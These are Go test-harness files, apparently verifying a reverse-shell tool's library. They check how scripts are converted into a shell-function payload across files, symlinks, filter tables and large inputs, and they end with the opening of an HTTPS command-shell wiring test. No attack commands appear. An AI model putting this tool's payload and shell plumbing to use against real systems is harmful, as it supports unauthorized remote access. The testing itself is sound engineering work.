			write := func(k int) {
				cur = k
				switch k { /* older / same / newer than the file it replaces */
				case 0:
					mtime = mtime.Add(-time.Hour)
				case 2:
					mtime = mtime.Add(time.Hour)
				}
				if "mapfs" == fsKind {
					mfs["src/tool.pl"] = &fstest.MapFile{Data: []byte(c16ConvScripts[k]), Mode: 0o644}
					return
				}
				p := filepath.Join(src, "tool.pl")
				tmp := p + ".new"
				os.WriteFile(tmp, []byte(c16ConvScripts[k]), 0o644)
				os.Chtimes(tmp, mtime, mtime)
				os.Rename(tmp, p)
			}
			write(0)
			for i := 0; i < len(seq); i++ {
				c := c16Case{Class: "converter-history", Script: c16ConvScripts[cur], Shell: fsKind + ":" + seq[:i+1]}
				switch e := seq[i]; e {
				case '0', '1', '2':
					write(int(e - '0'))
				case 'S':
					other.SetFilter("*.pl", nil)
				case 'T':
					other.SetFilter("*.pl", custom)
				case 'U':
					conv.SetFilter("*.txt", custom)
				case 'C', 'F':
					cv := conv
					if 'F' == e {
						cv = shellfuncsfile.NewDefaultConverter()
						if "mapfs" == fsKind {
							cv.FS = mfs
						}
					}
					source := src
					if "mapfs" == fsKind {
						source = "src"
					}
					out, err := cv.From(source)
					if nil != err {
						r.Violate(ev.Violation{Signature: "static/conversion-failed/converter-history", What: fmt.Sprintf("%s, history %q: converting the directory failed: %v", fsKind, seq[:i+1], err), Kind: "c16conv", Replay: c})
						break
					}
					c16Static(r, c, "tool.pl", out)
					n++
				}
			}
			os.RemoveAll(dir)
		}
	}
	r.Add(n)
	r.AddDistinct(n)
	r.Set("converter_history_conversions", n)
}

// c16Links: scripts reached through symbolic links whose targets are called
// something else (a versioned name, a name without extension): the function
// is named after the name the operator gave, and is converted as Perl because
// that name says so.
func c16Links(r *ev.Result, base string) {
	root := filepath.Join(base, "links")
	tools, funcs := filepath.Join(root, "tools"), filepath.Join(root, "funcs")
	os.MkdirAll(tools, 0o755)
	os.MkdirAll(funcs, 0o755)
	defer os.RemoveAll(root)
	os.Symlink("funcs", filepath.Join(root, "funcslink"))
	n := 0
	for k, script := range c16ConvScripts {
		for _, target := range []string{fmt.Sprintf("tool%d_v2.pl", k), fmt.Sprintf("tool%d", k), fmt.Sprintf("tool%d.sh", k)} {
			os.WriteFile(filepath.Join(tools, target), []byte(script), 0o644)
			link := filepath.Join(funcs, "up.pl")
			os.Remove(link)
			if err := os.Symlink(filepath.Join("..", "tools", target), link); nil != err {
				ev.Broken("%s", err)
			}
			for _, source := range []string{link, funcs, filepath.Join(root, "funcslink", "up.pl"), filepath.Join(root, "funcslink")} {
				rel, _ := filepath.Rel(root, source)
				c := c16Case{Class: "linked-script", Script: script, Shell: rel + " -> tools/" + target}
				out, err := shellfuncsfile.NewDefaultConverter().From(source)
				n++
				if nil != err {
					r.Violate(ev.Violation{Signature: "static/conversion-failed/linked-script", What: fmt.Sprintf("source %s, where up.pl is a symbolic link to ../tools/%s: %v", rel, target, err), Kind: "c16conv", Replay: c})
					continue
				}
				c16Static(r, c, "up.pl", out)
			}
		}
	}
	/* Base names with more than one dot: the extension is what follows the
	last one. */
	dotted := filepath.Join(root, "dotted")
	os.MkdirAll(dotted, 0o755)
	names := []string{"ps.bsd.pl", "ps.linux.pl", "a.b.c.pl", "v1.2.pl", "Deploy.pl", "camelCase.pl"}
	for k, name := range names {
		os.WriteFile(filepath.Join(dotted, name), []byte(c16ConvScripts[k%len(c16ConvScripts)]), 0o644)
	}
	for k, name := range names {
		c := c16Case{Class: "dotted-name", Script: c16ConvScripts[k%len(c16ConvScripts)], Shell: name}
		out, err := shellfuncsfile.NewDefaultConverter().From(filepath.Join(dotted, name))
		n++
		if nil != err {
			r.Violate(ev.Violation{Signature: "static/conversion-failed/dotted-name", What: fmt.Sprintf("single file %s: %v", name, err), Kind: "c16conv", Replay: c})
			continue
		}
		c16Static(r, c, name, out)
	}
	if out, err := shellfuncsfile.NewDefaultConverter().From(dotted); nil != err {
		r.Violate(ev.Violation{Signature: "static/conversion-failed/dotted-name", What: fmt.Sprintf("directory of %v: %v", names, err), Kind: "c16conv", Replay: c16Case{Class: "dotted-name", Shell: "directory"}})
	} else {
		n++
		for _, name := range names {
			if fn := strings.TrimSuffix(name, ".pl") + "() {"; 1 != strings.Count("\n"+string(out), "\n"+fn) {
				r.Violate(ev.Violation{Signature: "static/head/dotted-name", What: fmt.Sprintf("directory of %v: the payload does not define %q exactly once", names, fn), Kind: "c16conv", Replay: c16Case{Class: "dotted-name", Shell: "directory"}})
			}
		}
	}
	r.Add(n)
	r.AddDistinct(n)
	r.Set("linked_script_conversions", n)
}
