package checks

/*
 * C17 — the Ctrl+I payload is exactly the eligible files, converted, in name
 * order.  Every directory tree with up to K entries over a fixed name set
 * and entry-kind set is built for real (so the production os.DirFS path is
 * the one exercised) and converted with four filter tables; the result is
 * compared with a reference written from the statement.
 */

import (
	"bytes"
	"crypto/sha256"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing/fstest"

	"github.com/magisterquis/curlrevshell/lib/shellfuncsfile"
	"github.com/magisterquis/curlrevshell/verifx/ev"
)

func init() {
	registry["C17"] = checkDef{level: "exploration", run: c17, replay: c17Replay}
}

var c17Names = []string{
	"a.sh", "b.pl", "c.subr", "A.sh", "a b.sh", "a[1].sh", "x.sh.bak", "x.txt",
	".hidden.sh", ".#a.sh", "a.sh~", "Makefile", "GNUMakefile",
}

// Entry kinds.
const (
	kReg      = iota /* regular, newline-terminated */
	kEmpty           /* empty regular file */
	kNoNL            /* regular, no final newline */
	kDir             /* directory holding a matching file */
	kLink            /* symlink to a regular file outside the directory */
	kDangling        /* dangling symlink (dot and non-matching names only) */
	nKinds
)

var c17KindNames = [...]string{"regular", "empty", "no-final-newline", "directory", "symlink-to-regular", "dangling-symlink"}

type c17Entry struct {
	Name string `json:"name"`
	Kind int    `json:"kind"`
}

type c17Case struct {
	Entries []c17Entry `json:"entries"`
	Table   int        `json:"table"`
	Form    string     `json:"form"` /* dir | mapfs | single | multi */
}

// upper is a user-supplied filter for the overlapping table.
func c17Upper(_ string, r io.Reader) ([]byte, error) {
	b, err := io.ReadAll(r)
	return bytes.ToUpper(b), err
}

// c17Tables: pattern -> filter name, per table.
var c17Tables = []map[string]string{
	{"*.pl": "perl", "*.sh": "shell", "*.subr": "shell"},
	{"*.pl": "perl", "*.sh": "shell", "*.subr": "shell", "*.txt": "shell"},
	{"*.sh": "shell", "*.subr": "shell"},
	{"*.pl": "perl", "*.sh": "shell", "*.subr": "shell", "a*": "upper"},
	{}, /* Every default pattern switched off, none added. */
	{"*.pl": "perl", "*.sh": "shell", "*.subr": "shell", "Makefile": "upper"}, /* A pattern without any wildcard: that very name. */
}

var c17TableNames = []string{"default", "default+*.txt", "default-*.pl", "default+overlapping a*", "emptied", "default+literal Makefile"}

func c17Filter(n string) shellfuncsfile.Filter {
	switch n {
	case "perl":
		return shellfuncsfile.FromPerl
	case "shell":
		return shellfuncsfile.FromShell
	}
	return c17Upper
}

func c17Converter(t int) *shellfuncsfile.Converter {
	c := shellfuncsfile.NewDefaultConverter()
	for _, p := range []string{"*.pl", "*.sh", "*.subr"} {
		if _, ok := c17Tables[t][p]; !ok {
			c.SetFilter(p, nil)
		}
	}
	/* (The default patterns are left as the constructor set them up: what
	is added is added to them.) */
	defaults := map[string]string{"*.pl": "perl", "*.sh": "shell", "*.subr": "shell"}
	for p, f := range c17Tables[t] {
		if defaults[p] == f {
			continue
		}
		c.SetFilter(p, c17Filter(f))
	}
	return c
}

// c17Content is the content of a regular entry.
func c17Content(name string, kind int) []byte {
	var body string
	if strings.HasSuffix(name, ".pl") {
		body = "# lead comment for " + name + "\nprint \"from " + name + "\\n\";\n"
	} else {
		body = "# TABDOC: f_" + strings.Map(func(r rune) rune {
			if r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z' {
				return r
			}
			return '_'
		}, name) + " from " + name + "\nf() { echo '" + name + "'; }\n"
	}
	switch kind {
	case kEmpty:
		return nil
	case kNoNL:
		return []byte(strings.TrimSuffix(body, "\n"))
	}
	return []byte(body)
}

// c17Matches reports whether name matches any pattern of any table.
func c17Eligible(name string, table int) (filter string, ok bool) {
	var pats []string
	for p := range c17Tables[table] {
		pats = append(pats, p)
	}
	sort.Strings(pats)
	for _, p := range pats {
		if m, _ := filepath.Match(p, name); m {
			return c17Tables[table][p], true
		}
	}
	return "", false
}

// c17Reference computes the expected payload; withLinks selects whether
// symlinks to regular files count as regular files.
func c17Reference(entries []c17Entry, table int, withLinks bool) ([]byte, error) {
	es := append([]c17Entry{}, entries...)
	sort.Slice(es, func(i, j int) bool { return es[i].Name < es[j].Name })
	var out bytes.Buffer
	for _, e := range es {
		if strings.HasPrefix(e.Name, ".") {
			continue
		}
		switch e.Kind {
		case kDir, kDangling:
			continue
		case kLink:
			if !withLinks {
				continue
			}
		}
		f, ok := c17Eligible(e.Name, table)
		if !ok {
			continue
		}
		content := c17Content(e.Name, e.Kind)
		if kLink == e.Kind {
			content = c17Content(e.Name, kReg)
		}
		b, err := c17Filter(f)(e.Name, bytes.NewReader(content))
		if nil != err {
			return nil, err
		}
		if 0 != len(b) && '\n' != b[len(b)-1] {
			b = append(b, '\n')
		}
		out.Write(b)
	}
	return out.Bytes(), nil
}

// c17Build creates the tree in dir (which must be empty); linkTargets is a
// sibling directory holding the targets of valid symlinks.
func c17Build(dir, linkTargets string, entries []c17Entry) error {
	for _, e := range entries {
		p := filepath.Join(dir, e.Name)
		switch e.Kind {
		case kReg, kEmpty, kNoNL:
			if err := os.WriteFile(p, c17Content(e.Name, e.Kind), 0o644); nil != err {
				return err
			}
		case kDir:
			if err := os.Mkdir(p, 0o755); nil != err {
				return err
			}
			if err := os.WriteFile(filepath.Join(p, "inner.sh"), []byte("inner() { :; }\n"), 0o644); nil != err {
				return err
			}
		case kLink:
			/* (The target is called something else: what counts is the
			name in the directory.) */
			t := filepath.Join(linkTargets, "target-of-"+e.Name+".txt")
			if err := os.WriteFile(t, c17Content(e.Name, kReg), 0o644); nil != err {
				return err
			}
			if err := os.Symlink(t, p); nil != err {
				return err
			}
		case kDangling:
			if err := os.Symlink(filepath.Join(linkTargets, "does-not-exist-"+e.Name), p); nil != err {
				return err
			}
		}
	}
	return nil
}

func c17Clean(dir string) {
	des, _ := os.ReadDir(dir)
	for _, de := range des {
		os.RemoveAll(filepath.Join(dir, de.Name()))
	}
}

// c17Fail is one failing (tree, table).
type c17Fail struct {
	what    string
	detail  string
	entries []c17Entry
	table   int
}

var (
	c17FailMu sync.Mutex
	c17Fails  []c17Fail
)

func c17Key(es []c17Entry) string {
	var ss []string
	for _, e := range es {
		ss = append(ss, fmt.Sprintf("%s=%d", e.Name, e.Kind))
	}
	sort.Strings(ss)
	return strings.Join(ss, "|")
}

// c17Report keeps only the minimal failing trees (no failing sub-tree with
// the same symptom) so that one defect gives a handful of findings.
func c17Report(r *ev.Result) {
	c17FailMu.Lock()
	defer c17FailMu.Unlock()
	failing := map[string]bool{}
	for _, f := range c17Fails {
		failing[f.what+"#"+c17Key(f.entries)] = true
	}
	for _, f := range c17Fails {
		minimal := true
		n := len(f.entries)
		for mask := 0; mask < (1<<n)-1 && minimal; mask++ {
			var sub []c17Entry
			for i := 0; i < n; i++ {
				if 0 != mask&(1<<i) {
					sub = append(sub, f.entries[i])
				}
			}
			if failing[f.what+"#"+c17Key(sub)] {
				minimal = false
			}
		}
		if !minimal {
			continue
		}
		r.Violate(ev.Violation{
			Signature: f.what + "/" + c17Desc(f.entries),
			What:      f.detail,
			Kind:      "c17", Replay: c17Case{Entries: f.entries, Table: f.table, Form: "dir"},
		})
	}
	r.Set("failing_tree_table_pairs", len(c17Fails))
	c17Fails = nil
}

func c17AddFail(what, detail string, entries []c17Entry, table int) {
	c17FailMu.Lock()
	c17Fails = append(c17Fails, c17Fail{what, detail, append([]c17Entry{}, entries...), table})
	c17FailMu.Unlock()
}

// c17Check converts one built tree with every table and compares.
func c17Check(r *ev.Result, dir string, entries []c17Entry, minimalOnly bool) {
	for t := range c17Tables {
		conv := c17Converter(t)
		got, err := conv.From(dir)
		got2, err2 := conv.From(dir)
		r.Add(1)
		want1, rerr := c17Reference(entries, t, true)
		if nil != rerr {
			ev.Broken("reference filter failed: %s", rerr)
		}
		cs := c17Case{Entries: entries, Table: t, Form: "dir"}
		switch {
		case nil != err:
			c17AddFail("conversion-failed", fmt.Sprintf("table %q, tree %v: conversion failed: %v", c17TableNames[t], c17Desc(entries), err), entries, t)
		case !bytes.Equal(got, want1):
			c17AddFail("payload-differs", fmt.Sprintf("table %q, tree %v: payload %q, want %q", c17TableNames[t], c17Desc(entries), got, want1), entries, t)
		case nil != err2 || !bytes.Equal(got, got2):
			r.Violate(ev.Violation{
				Signature: "second-call-differs",
				What:      fmt.Sprintf("table %q, tree %v: two calls on unchanged files differ", c17TableNames[t], c17Desc(entries)),
				Kind:      "c17", Replay: cs,
			})
		}
	}
}

func c17Desc(entries []c17Entry) string {
	var ss []string
	for _, e := range entries {
		ss = append(ss, e.Name+"="+c17KindNames[e.Kind])
	}
	return "{" + strings.Join(ss, ", ") + "}"
}

// kindsFor lists the kinds name may take.
func c17KindsFor(name string) []int {
	ks := []int{kReg, kEmpty, kNoNL, kDir, kLink}
	/* Dangling links only where the statement's quantifier puts them. */
	matching := false
	for t := range c17Tables {
		if _, ok := c17Eligible(name, t); ok {
			matching = true
		}
	}
	if strings.HasPrefix(name, ".") || !matching {
		ks = append(ks, kDangling)
	}
	return ks
}

func c17(r *ev.Result, tier string) {
	maxEntries := 3
	if !isQuick(tier) {
		maxEntries = 4
	}
	r.Rule = fmt.Sprintf("every directory with <=%d entries drawn from %d names x the entry kinds %v (dangling links only on dot and non-matching names), built as a real directory, "+
		"converted twice with each of %d filter tables and compared with a reference (sorted names, no dot names, regular files, first matching pattern, newline-terminated); "+
		"plus single-file and multi-source forms and an fstest.MapFS variant; distinct = distinct (tree, table) pairs", maxEntries, len(c17Names), c17KindNames, len(c17Tables))

	/* Enumerate name combinations. */
	var combos [][]int
	var rec func(start int, cur []int)
	rec = func(start int, cur []int) {
		combos = append(combos, append([]int{}, cur...))
		if len(cur) == maxEntries {
			return
		}
		for i := start; i < len(c17Names); i++ {
			rec(i+1, append(cur, i))
		}
	}
	rec(0, nil)

	base := ev.Scratch("c17-")
	defer os.RemoveAll(base)
	/* First, sequentially: changing one converter's filter table changes no
	other converter (the enumeration below relies on it, and runs in
	parallel). */
	c17BigFiles(r, base)
	c17GlobNames(r, base)
	c17ManyFiles(r, base)
	c17KeptHistories(r, base)
	c17TableChanges(r, base)
	c17Counts(r, base)
	c17Program(r, base)
	if !c17Independent(r, base) {
		r.Exhaustive = false
		r.Set("stopped", "converters share state; the parallel enumeration was not run")
		return
	}
	var trees atomic.Int64
	type ws struct{ dir, links string }
	pool := make(chan ws, ncpu())
	for i := 0; i < ncpu(); i++ {
		w := ws{filepath.Join(base, fmt.Sprintf("w%d", i), "src"), filepath.Join(base, fmt.Sprintf("w%d", i), "targets")}
		os.MkdirAll(w.dir, 0o755)
		os.MkdirAll(w.links, 0o755)
		pool <- w
	}
	parallel(len(combos), func(ci int) {
		w := <-pool
		defer func() { pool <- w }()
		combo := combos[ci]
		kinds := make([][]int, len(combo))
		for i, ni := range combo {
			kinds[i] = c17KindsFor(c17Names[ni])
		}
		idx := make([]int, len(combo))
		for {
			entries := make([]c17Entry, len(combo))
			for i, ni := range combo {
				entries[i] = c17Entry{Name: c17Names[ni], Kind: kinds[i][idx[i]]}
			}
			if err := c17Build(w.dir, w.links, entries); nil != err {
				ev.Broken("building tree: %s", err)
			}
			c17Check(r, w.dir, entries, false)
			trees.Add(1)
			c17Clean(w.dir)
			/* next kind assignment */
			i := len(idx) - 1
			for ; i >= 0; i-- {
				idx[i]++
				if idx[i] < len(kinds[i]) {
					break
				}
				idx[i] = 0
			}
			if i < 0 {
				break
			}
		}
	})
	c17Report(r)
	r.Set("trees", trees.Load())
	r.Distinct = int(trees.Load()) * len(c17Tables)
	r.Sample(6, map[string]any{"tree": c17Desc([]c17Entry{{"a.sh", kReg}, {".#a.sh", kDangling}, {"b.pl", kNoNL}}), "table": c17TableNames[0]})
	r.Sample(6, map[string]any{"tree": c17Desc([]c17Entry{{"a.sh~", kLink}, {"A.sh", kDir}, {"x.txt", kEmpty}}), "table": c17TableNames[3]})

	/* Single-file and multi-source forms. */
	w := <-pool
	n := 0
	for _, name := range c17Names {
		for _, kind := range []int{kReg, kEmpty, kNoNL} {
			c17Clean(w.dir)
			e := c17Entry{name, kind}
			if err := c17Build(w.dir, w.links, []c17Entry{e}); nil != err {
				ev.Broken("%s", err)
			}
			/* a second source */
			other := filepath.Join(w.links, "second.subr")
			os.WriteFile(other, []byte("second() { :; }"), 0o644)
			for t := range c17Tables {
				conv := c17Converter(t)
				p := filepath.Join(w.dir, name)
				got, err := conv.From(p)
				content := c17Content(name, kind)
				want := content
				if f, ok := c17Eligible(name, t); ok {
					b, _ := c17Filter(f)(name, bytes.NewReader(content))
					if 0 != len(b) && '\n' != b[len(b)-1] {
						b = append(b, '\n')
					}
					want = b
				}
				n++
				if nil != err || !bytes.Equal(got, want) {
					r.Violate(ev.Violation{
						Signature: "single-file/" + c17KindNames[kind],
						What:      fmt.Sprintf("single file %s (%s), table %q: got %q err %v, want %q", name, c17KindNames[kind], c17TableNames[t], got, err, want),
						Kind:      "c17", Replay: c17Case{Entries: []c17Entry{e}, Table: t, Form: "single"},
					})
				}
				/* several sources, in the order given, both orders */
				wantDir, _ := c17Reference([]c17Entry{e}, t, true)
				second := []byte("second() { :; }") /* As written: no final newline. */
				if _, ok := c17Eligible("second.subr", t); ok {
					second = append(second, '\n')
				}
				for _, order := range [][]string{{w.dir, other, p}, {other, p, w.dir}} {
					got, err := conv.From(order...)
					var wb bytes.Buffer
					for _, s := range order {
						switch s {
						case w.dir:
							wb.Write(wantDir)
						case other:
							wb.Write(second)
						case p:
							wb.Write(want)
						}
					}
					n++
					if nil != err || !bytes.Equal(got, wb.Bytes()) {
						r.Violate(ev.Violation{
							Signature: "multi-source/" + c17KindNames[kind],
							What:      fmt.Sprintf("sources %v, table %q: got %q err %v, want %q", order, c17TableNames[t], got, err, wb.Bytes()),
							Kind:      "c17", Replay: c17Case{Entries: []c17Entry{e}, Table: t, Form: "multi"},
						})
					}
				}
			}
		}
	}
	c17Clean(w.dir)
	pool <- w
	r.Add(n)
	r.Distinct += n
	r.Set("single_and_multi_source_cases", n)

	/* The FS field: link-free trees through fstest.MapFS. */
	nm := 0
	for _, combo := range combos {
		if len(combo) > 2 {
			continue
		}
		kindsets := [][]int{{kReg}, {kEmpty}, {kNoNL}, {kDir}}
		idx := make([]int, len(combo))
		for {
			mfs := fstest.MapFS{"src": &fstest.MapFile{Mode: os.ModeDir | 0o755}}
			var entries []c17Entry
			for i, ni := range combo {
				e := c17Entry{c17Names[ni], kindsets[idx[i]][0]}
				entries = append(entries, e)
				if kDir == e.Kind {
					mfs["src/"+e.Name] = &fstest.MapFile{Mode: os.ModeDir | 0o755}
					mfs["src/"+e.Name+"/inner.sh"] = &fstest.MapFile{Data: []byte("inner() { :; }\n")}
				} else {
					mfs["src/"+e.Name] = &fstest.MapFile{Data: c17Content(e.Name, e.Kind), Mode: 0o644}
				}
			}
			for t := range c17Tables {
				conv := c17Converter(t)
				conv.FS = mfs
				got, err := conv.From("src")
				want, _ := c17Reference(entries, t, true)
				nm++
				if nil != err || !bytes.Equal(got, want) {
					c17AddFail("mapfs-payload-differs", fmt.Sprintf("MapFS tree %v, table %q: got %q err %v, want %q", c17Desc(entries), c17TableNames[t], got, err, want), entries, t)
				}
			}
			i := len(idx) - 1
			for ; i >= 0; i-- {
				idx[i]++
				if idx[i] < len(kindsets) {
					break
				}
				idx[i] = 0
			}
			if i < 0 {
				break
			}
		}
	}
	c17Report(r)
	r.Add(nm)
	r.Distinct += nm
	r.Set("mapfs_cases", nm)
	r.Assume("per-file conversion (FromPerl/FromShell) is used as a black box here; FromPerl itself is C16's subject")
	r.Assume("'regular file' is read as stat(2) reads it: a symlink to a regular file counts (that is what the quantifier's 'valid symlinks' are for); an empty conversion contributes nothing")
}

// c17Independent: SetFilter on one converter leaves a later default converter
// with the documented default table.
func c17Independent(r *ev.Result, base string) bool {
	dir, links := filepath.Join(base, "indep", "src"), filepath.Join(base, "indep", "targets")
	os.MkdirAll(dir, 0o755)
	os.MkdirAll(links, 0o755)
	entries := []c17Entry{{"a.sh", kReg}, {"b.pl", kReg}, {"c.subr", kReg}, {"x.txt", kReg}, {"a.sh~", kReg}}
	if err := c17Build(dir, links, entries); nil != err {
		ev.Broken("%s", err)
	}
	want, _ := c17Reference(entries, 0, true)
	ok := true
	for t := range c17Tables {
		c17Converter(t) /* Modifies its own table. */
		got, err := shellfuncsfile.NewDefaultConverter().From(dir)
		r.Add(1)
		if nil != err || !bytes.Equal(got, want) {
			ok = false
			r.Violate(ev.Violation{
				Signature: "default-table-polluted",
				What:      fmt.Sprintf("after another converter was given the table %q, a new default converter no longer uses the default filters: got %q err %v, want %q", c17TableNames[t], got, err, want),
				Kind:      "c17", Replay: c17Case{Entries: entries, Table: 0, Form: "dir"},
			})
		}
	}
	c17Clean(dir)
	return ok
}

func c17Replay(kind string, raw json.RawMessage) int {
	if "c17big" == kind {
		fmt.Println("the big-file scenario is replayed by re-running ./run C17 quick")
		return 2
	}
	var c c17Case
	if err := json.Unmarshal(raw, &c); nil != err {
		return 2
	}
	base := ev.Scratch("c17r-")
	defer os.RemoveAll(base)
	dir, links := filepath.Join(base, "src"), filepath.Join(base, "targets")
	os.MkdirAll(dir, 0o755)
	os.MkdirAll(links, 0o755)
	if err := c17Build(dir, links, c.Entries); nil != err {
		fmt.Println(err)
		return 2
	}
	conv := c17Converter(c.Table)
	got, err := conv.From(dir)
	want, _ := c17Reference(c.Entries, c.Table, true)
	fmt.Printf("tree   %s\ntable  %s\ngot    %q err=%v\nwant   %q\n", c17Desc(c.Entries), c17TableNames[c.Table], got, err, want)
	if nil != err || !bytes.Equal(got, want) {
		fmt.Println("reproduced")
		return 1
	}
	fmt.Println("not reproduced")
	return 0
}

// c17BigFiles: eligible files of 1..3 MiB (a function library, a script with
// an embedded blob), in a directory and as a single-file source, filtered and
// not: the payload holds all of every one of them.
func c17BigFiles(r *ev.Result, base string) {
	dir := filepath.Join(base, "big", "src")
	os.MkdirAll(dir, 0o755)
	defer os.RemoveAll(filepath.Join(base, "big"))
	mk := func(tag string, n int) []byte {
		var b bytes.Buffer
		for i := 0; b.Len() < n; i++ {
			fmt.Fprintf(&b, "%s_%06d() { echo 'function number %d of the %s library'; }\n", tag, i, i, tag)
		}
		return b.Bytes()
	}
	files := map[string][]byte{
		"a_lib.sh":   mk("a", 1<<20+4099),
		"b_lib.subr": mk("b", 3<<20),
		"c_small.sh": []byte("c_small() { :; }\n"),
		"notes.txt":  mk("n", 2<<20), /* Not eligible in a directory; unchanged as a single file. */
	}
	for n, c := range files {
		os.WriteFile(filepath.Join(dir, n), c, 0o644)
	}
	v := func(sig, what string) {
		r.Violate(ev.Violation{Signature: "big-files/" + sig, What: what, Kind: "c17big", Replay: map[string]string{"scenario": "files of 1-3 MiB"}})
	}
	want := append(append(append([]byte{}, files["a_lib.sh"]...), files["b_lib.subr"]...), files["c_small.sh"]...)
	got, err := shellfuncsfile.NewDefaultConverter().From(dir)
	switch {
	case nil != err:
		v("conversion-failed", err.Error())
	case !bytes.Equal(got, want):
		v("payload-differs/directory", fmt.Sprintf("a directory with a 1 MiB+4 KiB .sh file, a 3 MiB .subr file and a small one: the payload has %d bytes, the eligible files together %d (first difference at byte %d)", len(got), len(want), firstDiff(got, want)))
	}
	for _, n := range []string{"a_lib.sh", "b_lib.subr", "notes.txt"} {
		got, err := shellfuncsfile.NewDefaultConverter().From(filepath.Join(dir, n))
		if nil != err {
			v("conversion-failed", n+": "+err.Error())
		} else if !bytes.Equal(got, files[n]) {
			v("payload-differs/single-file", fmt.Sprintf("single-file source %s of %d bytes: the payload has %d bytes (first difference at byte %d)", n, len(files[n]), len(got), firstDiff(got, files[n])))
		}
	}
	r.Add(4)
	r.AddDistinct(4)
	r.Set("big_file_sources", 4)
}

// c17GlobNames: sources whose names contain glob characters, next to siblings
// such a pattern would match: a source is a name, not a pattern.
func c17GlobNames(r *ev.Result, base string) {
	dir := filepath.Join(base, "globnames")
	os.MkdirAll(filepath.Join(dir, "funcs[12]"), 0o755)
	os.MkdirAll(filepath.Join(dir, "funcs1"), 0o755)
	defer os.RemoveAll(dir)
	files := map[string]string{
		"a[1].sh": "a_bracket() { :; }\n", "a1.sh": "a_one() { :; }\n",
		"what?.sh": "what_q() { :; }\n", "whatX.sh": "what_x() { :; }\n",
		"*.subr": "star() { :; }\n", "other.subr": "other() { :; }\n",
		"funcs[12]/in.sh": "in_bracket_dir() { :; }\n", "funcs1/in.sh": "in_funcs1() { :; }\n",
	}
	for n, c := range files {
		os.WriteFile(filepath.Join(dir, n), []byte(c), 0o644)
	}
	v := func(sig, what string) {
		r.Violate(ev.Violation{Signature: "glob-names/" + sig, What: what, Kind: "c17big", Replay: map[string]string{"scenario": "source names with glob characters"}})
	}
	cases := []struct {
		srcs []string
		want string
	}{
		{[]string{"a[1].sh"}, files["a[1].sh"]},
		{[]string{"what?.sh"}, files["what?.sh"]},
		{[]string{"*.subr"}, files["*.subr"]},
		{[]string{"funcs[12]"}, files["funcs[12]/in.sh"]},
		{[]string{"whatX.sh", "what?.sh"}, files["whatX.sh"] + files["what?.sh"]},
		{[]string{"a1.sh", "a[1].sh", "other.subr", "*.subr"}, files["a1.sh"] + files["a[1].sh"] + files["other.subr"] + files["*.subr"]},
	}
	for _, c := range cases {
		var full []string
		for _, s := range c.srcs {
			full = append(full, filepath.Join(dir, s))
		}
		got, err := shellfuncsfile.NewDefaultConverter().From(full...)
		if nil != err {
			v("conversion-failed", fmt.Sprintf("sources %q: %v", c.srcs, err))
		} else if string(got) != c.want {
			v("payload-differs", fmt.Sprintf("sources %q (siblings a pattern would match exist): got %q, want %q", c.srcs, got, c.want))
		}
		/* The same through an fs.FS (except a *directory* source whose own
		name has glob characters: fs.Sub's Glob reads the directory name as
		part of the pattern and the conversion fails, loudly - observation
		O2 in DESIGN 12.4; the program itself never converts through an
		fs.FS). */
		if 1 == len(c.srcs) && "funcs[12]" == c.srcs[0] {
			continue
		}
		conv := shellfuncsfile.NewDefaultConverter()
		conv.FS = os.DirFS(dir)
		got, err = conv.From(c.srcs...)
		if nil != err {
			v("conversion-failed/fs", fmt.Sprintf("sources %q through an fs.FS: %v", c.srcs, err))
		} else if string(got) != c.want {
			v("payload-differs/fs", fmt.Sprintf("sources %q through an fs.FS: got %q, want %q", c.srcs, got, c.want))
		}
	}
	r.Add(2 * len(cases))
	r.AddDistinct(2 * len(cases))
}

// c17ManyFiles: a directory with more eligible files than the process may
// have open at once (a worker with a lowered descriptor limit): files are
// converted one after the other, not held.
func c17ManyFiles(r *ev.Result, base string) {
	dir := filepath.Join(base, "manyfiles")
	os.MkdirAll(dir, 0o755)
	defer os.RemoveAll(dir)
	want := ""
	for i := 0; i < 400; i++ {
		c := fmt.Sprintf("f%03d() { :; }\n", i)
		os.WriteFile(filepath.Join(dir, fmt.Sprintf("f%03d.sh", i)), []byte(c), 0o644)
		want += c
	}
	out, err := exec.Command(os.Args[0], "worker", "c17fd", dir).Output()
	var res struct {
		Len int    `json:"len"`
		Sum string `json:"sum"`
		Err string `json:"err"`
	}
	if jerr := json.Unmarshal(out, &res); nil != jerr || nil != err {
		ev.Broken("c17fd worker: %v %v %q", err, jerr, trunc80(string(out)))
	}
	sum := sha256.Sum256([]byte(want))
	switch {
	case "" != res.Err:
		r.Violate(ev.Violation{Signature: "many-files/conversion-failed", Kind: "c17big", Replay: map[string]string{"scenario": "400 eligible files, 64 spare descriptors"},
			What: "a directory of 400 eligible files converted in a process that may open 64 more files: " + res.Err})
	case res.Len != len(want) || res.Sum != fmt.Sprintf("%x", sum):
		r.Violate(ev.Violation{Signature: "many-files/payload-differs", Kind: "c17big", Replay: map[string]string{"scenario": "400 eligible files, 64 spare descriptors"},
			What: fmt.Sprintf("a directory of 400 eligible files: payload of %d bytes, want %d", res.Len, len(want))})
	}
	r.Add(1)
	r.AddDistinct(1)
}

func init() {
	workers["c17fd"] = func(args []string) int {
		ents, _ := os.ReadDir("/proc/self/fd")
		lim := syscall.Rlimit{}
		syscall.Getrlimit(syscall.RLIMIT_NOFILE, &lim)
		lim.Cur = uint64(len(ents) + 64)
		syscall.Setrlimit(syscall.RLIMIT_NOFILE, &lim)
		var res struct {
			Len int    `json:"len"`
			Sum string `json:"sum"`
			Err string `json:"err"`
		}
		b, err := shellfuncsfile.NewDefaultConverter().From(args[0])
		if nil != err {
			res.Err = err.Error()
		} else {
			res.Len = len(b)
			res.Sum = fmt.Sprintf("%x", sha256.Sum256(b))
		}
		json.NewEncoder(os.Stdout).Encode(res)
		return 0
	}
}
