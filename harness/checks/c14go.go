package checks

/*
 * C14 end to end: simpleshell.Go (the wiring around CmdShell: the request
 * body is the command's output, the response body its input) against an HTTPS
 * server of the harness that reads slowly and keeps sending input.  The
 * command writes a few MiB and exits while its input is still open; whatever
 * the client does when the command is gone, every byte it wrote must arrive,
 * followed by a clean end of the request body.
 */

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os/exec"
	"strings"
	"sync"
	"testing/iotest"
	"time"

	"github.com/magisterquis/curlrevshell/lib/simpleshell"
	"github.com/magisterquis/curlrevshell/verifx/ev"
	"github.com/magisterquis/curlrevshell/verifx/hworld"
)

